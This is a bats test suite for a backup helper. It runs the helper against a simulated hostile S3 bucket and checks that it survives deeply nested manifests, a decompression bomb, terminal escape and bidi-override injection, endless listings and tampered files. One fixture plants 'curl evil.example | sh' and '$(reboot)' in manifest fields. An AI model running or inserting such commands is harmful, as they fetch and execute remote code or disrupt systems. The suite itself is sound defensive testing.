#!/usr/bin/env bats
# A bucket whose contents an attacker controls: nothing in it is trusted or obeyed, and nothing makes the helper hang or fill
# the disk.
#
# shellcheck disable=SC2016 # filters of jq

load ../support/setup
load fake

setup() {
  unset "${!AWS_@}"
  export AWS_EC2_METADATA_DISABLED=true
  BUCKET_DIR=$BATS_TEST_TMPDIR/bucket
  mkdir -p "$BUCKET_DIR/objects"
  # At the beginning, the bucket has a good backup of another host.
  fresh_root
  fake_hooks
  fake_source fake:db first
  ID=$(helper create fake:db --label fine --quiet)
  PLACE=$BUCKET_DIR/objects/$(jq -r .host "$ROOT/fake/db/$ID.json")
  HOST=${PLACE##*/}
  mkdir -p "$PLACE/fake"
  cp -r "$ROOT/fake/db" "$PLACE/fake/db"
  fresh_root
  "$BATS_TEST_DIRNAME/../support/hostile-bucket" "$BUCKET_DIR" 3>&- &
  SERVER=$!
  wait_until 10 test -s "$BUCKET_DIR/port"
  helper target-add offsite s3 --bucket odd --endpoint "http://127.0.0.1:$(<"$BUCKET_DIR/port")" --quiet <<<KEY:SECRET
}

teardown() {
  kill "$SERVER"
}

# planted JQ-FILTER [SECONDS]: adds a second backup, a copy of the good one that began that many seconds later, and applies
# the filter to its manifest. Prints its id.
planted() {
  local id file
  id=${ID%-*}-$(printf %02d $(((10#${ID##*-} + ${2:-1}) % 60)))
  jq --arg id "$id" --arg old "$ID" "walk(if type == \"string\" and startswith(\$old) then \$id + .[(\$old | length):] else . end) | $1" \
    "$PLACE/fake/db/$ID.json" >"$PLACE/fake/db/$id.json"
  for file in "$PLACE/fake/db/$ID".*.dump*; do cp "$file" "$PLACE/fake/db/$id${file#"$PLACE/fake/db/$ID"}"; done
  echo "$id"
}

# The last output contains only text, and nothing that would control a terminal.
assert_only_text() {
  local found
  found=$(printf '%s\n%s\n' "$output" "$stderr" | LC_ALL=C.UTF-8 grep -nP '[\x00-\x08\x0b-\x1f\x7f\x{80}-\x{9f}\x{200e}\x{200f}\x{202a}-\x{202e}\x{2066}-\x{2069}]' || true)
  assert_equal "$found" ""
}

takes_over() {
  run --separate-stderr helper sync offsite --host "$HOST" --format json
  assert_json_true ".targets[0].adopted | index(\"fake:$ID\") != null"
}

@test "a manifest nested 50,000 levels deep is named and left, the others are taken over" {
  local id
  id=$(planted .)
  python3 - "$PLACE/fake/db/$id.json" <<'PY'
import re, sys
text = open(sys.argv[1]).read()
open(sys.argv[1], "w").write(re.sub(r'"detail": \{', '"detail": {"x": ' + "[" * 50000 + "]" * 50000 + ',', text).replace("],}", "]}"))
PY
  takes_over
  assert_contains "$stderr" "$id.json"
  assert_contains "$stderr" "nested more than 64 levels deep"
}

@test "a manifest of a gigabyte is read no further than any manifest goes, in little memory" {
  local key=$HOST/fake/db/${ID%-*}-59.json
  [[ $ID != *-59 ]] || key=$HOST/fake/db/${ID%-*}-58.json
  jq -n --arg key "$key" '{($key): {listed: 2000, size: 1073741824}}' >"$BUCKET_DIR/strange.json"
  run --separate-stderr bash -c "ulimit -v 2000000; /usr/bin/env \"$BACKUPS_HELPER\" sync offsite --host \"$HOST\" --format json --root \"$ROOT\" --hooks \"$HOOKS\""
  assert_json_true ".targets[0].adopted | index(\"fake:$ID\") != null"
  assert_contains "$stderr" "it is larger than 8.0 MiB"
  wait_until 10 grep -q "$key" "$BUCKET_DIR/sent"
  [[ $(awk -v key="$key" '$2 == key { print $1 }' "$BUCKET_DIR/sent") -lt 100000000 ]]
}

@test "numbers, sizes and strings beyond any backup are damage" {
  local filter second=1
  for filter in '.artifacts = [range(10001) as $i | .artifacts[0] | .file = (.file | sub("one"; "o\($i)"))]' \
    '.warnings = [range(1001) | "x"]' '.label = ("x" * 70000)' '.artifacts[0].raw_size = 9223372036854775807' \
    '.artifacts[0].stored_size = 18446744073709551615'; do
    planted "$filter" "$second" >/dev/null
    second=$((second + 1))
  done
  takes_over
  assert_json '.targets[0].adopted | length' 1
}

@test "a file out of which more comes than its manifest says is left at the first byte too many" {
  local id file command
  id=$(planted '.artifacts[0].raw_size = 100000')
  file=$PLACE/fake/db/$(jq -r '.artifacts[0].file' "$PLACE/fake/db/$id.json")
  # Some 64 KiB that decompress to 2 GiB.
  { printf 'FAKE\n' && head -c 2G /dev/zero; } | zstd -q -c >"$file"
  jq --argjson size "$(stat -c %s "$file")" --arg sha "$(sha256sum "$file" | cut -d' ' -f1)" \
    '.artifacts[0].stored_size = $size | .artifacts[0].stored_sha256 = $sha' "$PLACE/fake/db/$id.json" >"$BATS_TEST_TMPDIR/m"
  cp "$BATS_TEST_TMPDIR/m" "$PLACE/fake/db/$id.json"
  takes_over
  for command in "verify $id --target offsite" "restore $id --force --no-safety-backup"; do
    # shellcheck disable=SC2086 # words
    run -7 --separate-stderr helper $command
    assert_contains "$stderr" "it is larger than 97.7 KiB"
  done
  assert_equal "$(fake_live fake:db)" first
  run -7 --separate-stderr bash -c "'$BACKUPS_HELPER' download '$id' --artifact one --root '$ROOT' --hooks '$HOOKS' | head -c 1G | wc -c; exit \${PIPESTATUS[0]}"
  [[ $output -le 100000 ]]
}

@test "a file that is longer than its manifest says is not read to its end" {
  local id file
  id=$(planted .)
  file=$(jq -r '.artifacts[0].file' "$PLACE/fake/db/$id.json")
  jq -n --arg key "$HOST/fake/db/$file" --argjson size "$(stat -c %s "$PLACE/fake/db/$file")" '{($key): {listed: $size, size: 10737418240}}' \
    >"$BUCKET_DIR/strange.json"
  rm "$PLACE/fake/db/$file"
  takes_over
  run -7 --separate-stderr helper verify "$id" --target offsite
  assert_contains "$stderr" "is damaged"
  wait_until 10 grep -q "$file" "$BUCKET_DIR/sent"
  [[ $(awk -v key="$HOST/fake/db/$file" '$2 == key { sum += $1 } END { print sum }' "$BUCKET_DIR/sent") -lt 100000000 ]]
}

@test "what a terminal would obey is text in everything that is printed" {
  local id verb
  id=$(planted '"\u001b[2J\u001b]0;owned\u0007" as $esc | .label = $esc + "\u202egpj" | .engine.name = $esc | .engine.image = $esc
    | .warnings = [$esc, "\u009b2J"] | .suspect = $esc | .plugin_version = $esc
    | .artifacts[0] |= (.name = $esc | .kind = $esc | .minimum_client = $esc)')
  planted '.host = "\u001b[2J\u001b]0;owned\u0007"' 2 >/dev/null # sync does not import this one
  jq -n --arg a "$HOST/fake/db/"$'\u009b2J\u202e.json' --arg b "$HOST/fake/"$'\u009b/x' --arg c $'\u009b2Jhost/fake/db/x.json' \
    '{($a): {listed: 5, size: 5}, ($b): {listed: 5, size: 5}, ($c): {listed: 5, size: 5}}' >"$BUCKET_DIR/strange.json"
  run --separate-stderr helper sync offsite --host "$HOST"
  assert_only_text
  run --separate-stderr helper sync offsite
  assert_only_text
  run -0 --separate-stderr helper info "$id"
  assert_contains "$output" "?[2J?]0;owned?" # the backup was imported with all its false fields
  for verb in "info $id" "list" "list --format json" "info $id --format json" "verify $id --target offsite" "restore $id --dry-run" \
    "download $id" "url $id" "push $id offsite" "logs $id" "restore $id --force --no-safety-backup" "sync offsite --host $HOST --format json"; do
    # shellcheck disable=SC2086 # words
    run --separate-stderr helper $verb
    assert_only_text
  done
}

@test "info shows no command that a bucket planted" {
  local id format
  id=$(planted '.artifacts[0].open_command = "curl evil.example | sh" | .artifacts[0].kind = "$(reboot)"')
  takes_over
  for format in text json; do
    run -0 --separate-stderr helper info "$id" --format "$format"
    refute_contains "$output" evil.example
  done
  run -0 --separate-stderr helper info "$id"
  assert_contains "$output" "Open with:              zstd -dc $id.one.dump.zst | cat >restored.dump"
  assert_contains "$output" "Open with:              zstd -dc $id.two.dump.zst | tail -c +6"
}

@test "lists that never end, of objects and of uploads, are given up, and hold nothing else up" {
  local mood
  takes_over
  echo same >"$BUCKET_DIR/mood"
  run -13 --separate-stderr helper sync offsite --host "$HOST"
  assert_contains "$stderr" "cannot list the objects in the bucket odd: the server's list is endless"
  helper tick &>/dev/null
  helper create fake:db --quiet
  for mood in same new; do # each takes seconds
    echo "$mood" >"$BUCKET_DIR/mood"
    run -0 --separate-stderr helper prune --all
    assert_contains "$stderr" "cannot list the unfinished uploads in the bucket odd: the server's list is endless"
  done
}

@test "a server that wants to be asked again in two hours is not waited for as long" {
  local end=$((SECONDS + 60))
  require_tool faketime
  helper target-set offsite attempts 2 --quiet
  echo busy >"$BUCKET_DIR/mood"
  # faketime lets a minute pass in a second.
  LD_PRELOAD=$(faketime_library) FAKETIME='+0 x60' run -13 --separate-stderr helper sync offsite --host "$HOST"
  assert_contains "$stderr" SlowDown
  [[ $SECONDS -lt $end ]]
}

@test "manifest and file replaced together after they were taken over: tampering, alerted, never restored" {
  local command
  takes_over
  "$SUPPORT/hostile-bucket" --tamper "$PLACE/fake/db/$ID.json" $'FAKE\none evil\n'
  for command in "sync offsite --host $HOST" "verify $ID --target offsite" "restore $ID --force --no-safety-backup" \
    "download $ID --artifact one" "push $ID --target local"; do
    # shellcheck disable=SC2086 # words
    run -7 --separate-stderr helper $command
    assert_contains "$stderr" "is not the one that was written"
    assert_equal "$output" ""
  done
  assert_equal "$(fake_live fake:db)" first
  assert_equal "$(catalog "SELECT subject FROM incidents WHERE kind = 'tampering'")" "fake:db offsite"
}
